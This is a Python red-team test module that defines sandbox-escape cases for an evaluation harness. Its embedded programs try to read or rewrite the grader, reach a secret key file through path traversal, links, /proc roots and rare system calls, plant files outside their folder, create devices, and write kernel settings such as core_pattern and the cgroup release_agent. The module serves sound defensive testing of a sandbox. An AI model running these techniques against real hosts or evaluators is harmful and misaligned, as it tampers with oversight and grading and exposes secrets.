"""Hostile programs that reach for files of the host.

Invariant: what is written is what was read; what is made outside of the program's own folder has no name, or goes at once; devices and
switches of the kernel are opened and closed, none is used."""

from tests.redteam.case import Case
from tests.redteam.companion import LINUX, RAW

_READ_GRADER = """
from raw import attempt, read

def attack(told):
    return attempt("reads the evaluator", lambda: read(told["grader"]))
"""

_WRITE_GRADER = """
import os
from raw import attempt, opened

def rewritten(path):
    number = os.open(path, os.O_RDWR)
    return os.pwrite(number, os.pread(number, 1 << 20, 0), 0) >= 0

def attack(told):
    achieved = attempt("rewrites the evaluator", lambda: rewritten(told["grader"]))
    achieved += attempt("may add to the evaluator", lambda: opened(told["grader"], os.O_WRONLY | os.O_APPEND))
    other = told["grader"] + ".new"
    achieved += attempt("renames the evaluator", lambda: os.rename(told["grader"], other) is None and os.rename(other, told["grader"]) is None)
    return achieved + attempt("makes a file beside the evaluator", lambda: opened(other, os.O_CREAT | os.O_EXCL) and os.unlink(other) is None)
"""

_TRUNCATE_GRADER = """
import os
from raw import attempt, opened

def emptied_by_reading(path):
    before = os.stat(path).st_size
    number = os.open(path, os.O_RDONLY)
    text = os.read(number, 1 << 20)
    opened(path, os.O_RDONLY | os.O_TRUNC)
    after = os.stat(path).st_size
    with open(path, "r+b") as again:  # it is a canary; whole again, it serves the next case
        again.write(text)
    return after < before

def attack(told):
    achieved = attempt("cuts the evaluator", lambda: os.truncate(told["grader"], os.stat(told["grader"]).st_size) is None)
    return achieved + attempt("empties the evaluator by opening it to read", lambda: emptied_by_reading(told["grader"]))
"""

_DOTS = """
import os
from guard import learnt
from raw import attempt, read

def attack(told):
    secret = told["secret"].lstrip("/")
    achieved = attempt("reads the key's file by going up", lambda: learnt(told, read("../" * 40 + secret)))
    os.chdir("/")
    achieved += attempt("reads the key's file from the root", lambda: learnt(told, read(secret)))
    os.makedirs(os.path.join(os.environ["TMPDIR"], "a"), exist_ok=True)
    os.chdir(os.path.join(os.environ["TMPDIR"], "a"))
    os.rename("../a", "../b")  # a folder that moves while it is the current one
    return achieved + attempt("reads the key's file from a moved folder", lambda: learnt(told, read("../" * 40 + secret)))
"""

_HARD_LINK = """
import os
from guard import learnt
from raw import attempt, read

def attack(told):
    achieved = attempt("has the key's file by a second name", lambda: os.link(told["secret"], "linked") is None)
    achieved += attempt("moves the key's file and back", lambda: os.rename(told["secret"], "moved") is None and os.rename("moved", told["secret"]) is None)
    os.symlink(told["secret"], "symbolic")
    return achieved + attempt("reads the key's file by a link", lambda: learnt(told, read("symbolic")))
"""

_PROC_ROOT = """
from guard import learnt
from raw import attempt, read, strangers

def attack(told):
    places = [f"/proc/{pid}/{what}" for pid in ("self", "thread-self", 1, *strangers(told)) for what in ("root", "cwd", "cwd/../../../../../..")]
    places += [f"/proc/{pid}/task/{pid}/" + "root" for pid in (1, *strangers(told))]
    return [words for place in places for words in attempt(f"reads the key's file by {place}", lambda: learnt(told, read(place + told["secret"])))]
"""

_BY_CALL = """
import ctypes
import os
import struct
from guard import learnt
from raw import attempt, call

IN_ROOT, AT_FDCWD = 0x10, -100

def opened_in_root(path):
    how = struct.pack("QQQ", os.O_RDONLY, 0, IN_ROOT)
    number = call("openat2", os.open("/", os.O_PATH), path.encode(), how, len(how))
    return os.read(number, 1 << 16)

def by_handle(path):
    # A handle is a file's number in its file system: with it, paths and their rights are not asked.
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    call("name_to_handle_at", AT_FDCWD, path, handle, ctypes.byref(ctypes.c_int()), 0)
    return call("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY) >= 0

def attack(told):
    achieved = attempt("reads the key's file by openat2", lambda: learnt(told, opened_in_root(told["secret"])))
    return achieved + attempt("opens a file by its number", lambda: by_handle(b".") or by_handle(told["secret"].encode()))
"""

_INTERPRETER = """
import os
import sys
import sysconfig
from raw import attempt, opened

def attack(told):
    folders = {sysconfig.get_path("purelib"), sysconfig.get_path("scripts"), sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), "/usr", "/usr/bin", "/etc"}
    # A file without a name: it is gone as soon as it is closed.
    return [words for folder in sorted(folders) for words in attempt(f"makes a file in {folder}", lambda: opened(folder, os.O_TMPFILE | os.O_WRONLY))]
"""

_ANYWHERE = """
import os
import time
from raw import attempt, opened

def attack(told):
    own = [os.path.realpath(path) for path in (os.environ["HOME"], os.environ["TMPDIR"], os.getcwd(), os.path.join("/", "tmp"), "/var/tmp", "/dev/shm")]
    achieved, until = [], time.monotonic() + 2  # a machine may have any number of folders, and be busy
    for folder, below, _ in os.walk("/"):
        if time.monotonic() > until:
            break
        if folder in own or folder == "/proc" or folder.count("/") > 4:
            below.clear()
            continue
        achieved += attempt(f"makes a file in {folder}", lambda: opened(folder, os.O_TMPFILE | os.O_WRONLY))
    return achieved[:5]
"""

_CHMOD = """
import os
from raw import attempt

def changed(act, field):
    before = getattr(os.stat(told_folder), field)
    act()
    return getattr(os.stat(told_folder), field) != before

def attack(told):
    # A box may say yes and do nothing: only what has changed counts. It is changed back.
    global told_folder
    told_folder = told["folder"]
    achieved = []
    try:
        found = os.stat(told_folder)
    except OSError:
        return []
    achieved += attempt("changes a folder's rights", lambda: changed(lambda: os.chmod(told_folder, found.st_mode ^ 1), "st_mode"))
    attempt("", lambda: os.chmod(told_folder, found.st_mode & 0o7777))
    achieved += attempt("changes a folder's time", lambda: changed(lambda: os.utime(told_folder, ns=(0, 10**18)), "st_mtime_ns"))
    attempt("", lambda: os.utime(told_folder, ns=(found.st_atime_ns, found.st_mtime_ns)))
    achieved += attempt("changes a folder's group", lambda: changed(lambda: os.chown(told_folder, -1, found.st_gid + 1), "st_gid"))
    attempt("", lambda: os.chown(told_folder, -1, found.st_gid))
    achieved += attempt("marks a folder", lambda: os.setxattr(told_folder, "user.corpus", b"1") is None and b"1" == os.getxattr(told_folder, "user.corpus"))
    attempt("", lambda: os.removexattr(told_folder, "user.corpus"))
    return achieved
"""

_SYMLINK = """
import os
from raw import attempt

def attack(told):
    # For whoever collects or removes what is left here: links that lead to the host's files.
    for name in ("out.json", "result.json", "seed.py", "guard.py", "core", "scratch"):
        attempt("", lambda: os.path.lexists(name) and os.unlink(name))
        os.symlink(told["secret"], name)
    os.symlink(told["folder"], "folder")
    os.makedirs("deep/er")
    os.symlink(told["folder"], "deep/er/folder")
    os.chmod("deep", 0)
    return []
"""

_DEVICE = """
import os
import stat
from raw import attempt, read

def made(kind, number):
    os.mknod("device", kind | 0o600, os.makedev(*number))
    try:
        return read("device", 1) is not None
    finally:
        os.unlink("device")

def attack(told):
    # The device of zeros stands for all others.
    return attempt("makes a device and reads it", lambda: made(stat.S_IFCHR, (1, 5)))
"""

_DEVICES = """
import os
from raw import attempt, opened

# None of these does anything by being opened; a watchdog's would restart the machine.
NAMES = (
    "mem", "kmem", "port", "kmsg", "kvm", "fuse", "vsock", "vhost-vsock", "vhost-net", "net/tun", "loop-control", "loop0", "mapper/control",
    "sda", "sda1", "vda", "vda1", "nvme0n1", "userfaultfd", "hpet", "mcelog", "cpu/0/msr", "dri/renderD128", "nvidiactl", "uinput",
)

def attack(told):
    return [words for name in NAMES for words in attempt(f"opens /dev/{name}", lambda: opened(f"/dev/{name}", os.O_RDONLY))]
"""

_SYSCTL = """
import os
from raw import attempt

def written_back(path):
    with open(path) as found:
        value = found.read()
    number = os.open(path, os.O_WRONLY)
    return os.write(number, value.encode()) > 0

def attack(told):
    # Who sets the first has a program run as root when any process crashes.
    paths = ("kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "vm/overcommit_memory", "net/ipv4/ip_forward", "kernel/randomize_va_space")
    return [words for path in paths for words in attempt(f"writes {path}", lambda: written_back(f"/proc/sys/{path}"))]
"""

_SWITCHES = """
import os
from raw import attempt, opened

PATHS = (
    "/proc/sysrq-trigger", "/proc/kcore", "/proc/irq/default_smp_affinity", "/proc/bus/pci/devices", "/proc/1/oom_score_adj",
    "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run", "/sys/kernel/mm/transparent_hugepage/enabled",
    "/sys/kernel/debug/tracing/trace_marker", "/sys/kernel/tracing/trace_marker", "/sys/kernel/security/apparmor/.load",
    "/sys/module/apparmor/parameters/mode", "/sys/devices/system/cpu/cpu1/online", "/sys/bus/pci/rescan", "/sys/class/net/lo/mtu",
)

def attack(told):
    return [words for path in PATHS for words in attempt(f"opens {path} for writing", lambda: opened(path, os.O_WRONLY))]
"""

_CGROUP = """
import os
from raw import attempt, opened

def attack(told):
    achieved = []
    tree = "/sys/fs/cgroup"
    for name in ["", *(os.listdir(tree) if attempt("listed", lambda: opened(tree, os.O_RDONLY)) else [])]:
        folder = os.path.join(tree, name)
        group = os.path.join(folder, "evolve-corpus")
        achieved += attempt(f"may leave its limits by {folder}", lambda: opened(os.path.join(folder, "cgroup.procs"), os.O_WRONLY))
        achieved += attempt(f"has programs run by {folder}", lambda: opened(os.path.join(folder, "release_agent"), os.O_WRONLY))
        achieved += attempt(f"makes a group in {folder}", lambda: os.path.isdir(folder) and os.mkdir(group) is None and os.rmdir(group) is None)
    return achieved[:5]
"""

CASES: tuple[Case, ...] = (
    Case("fs.read_grader", "read the evaluator", _READ_GRADER, harmless=True, needs=LINUX, files=RAW),
    Case(
        "fs.write_grader",
        "write into the evaluator, or put another in its place",
        _WRITE_GRADER,
        harmless=True,
        needs=LINUX,
        files=RAW,
    ),
    Case("fs.truncate_grader", "empty the evaluator", _TRUNCATE_GRADER, harmless=True, needs=LINUX, files=RAW),
    Case("fs.dotdot", "leave its folder by going up", _DOTS, harmless=True, needs=LINUX, files=RAW),
    Case("fs.hardlink", "reach the key's file by links and moves", _HARD_LINK, harmless=True, needs=LINUX, files=RAW),
    Case(
        "fs.proc_root",
        "reach the key's file by the roots and folders of processes",
        _PROC_ROOT,
        harmless=True,
        needs=LINUX,
        files=RAW,
    ),
    Case(
        "fs.by_call",
        "open files by the calls that are seldom thought of",
        _BY_CALL,
        harmless=True,
        needs=LINUX,
        files=RAW,
    ),
    Case("fs.write_interpreter", "plant a file beside Python's own", _INTERPRETER, needs=LINUX, files=RAW),
    Case("fs.write_anywhere", "make a file in any folder that is not its own", _ANYWHERE, needs=LINUX, files=RAW),
    Case(
        "fs.chmod_outside",
        "change a folder's rights, time, group or marks",
        _CHMOD,
        harmless=True,
        needs=LINUX,
        files=RAW,
    ),
    Case(
        "fs.symlink_trap",
        "leave links that lead whoever cleans up to the host's files",
        _SYMLINK,
        needs=LINUX,
        files=RAW,
    ),
    Case("fs.mknod", "make a device", _DEVICE, needs=LINUX, files=RAW),
    Case("fs.devices", "open the devices of the machine", _DEVICES, needs=LINUX, files=RAW),
    Case("fs.sysctl", "write the kernel's settings", _SYSCTL, needs=LINUX, files=RAW),
    Case("fs.switches", "open the kernel's switches for writing", _SWITCHES, needs=LINUX, files=RAW),
    Case("fs.cgroup", "leave or change its control group", _CGROUP, needs=LINUX, files=RAW),
)
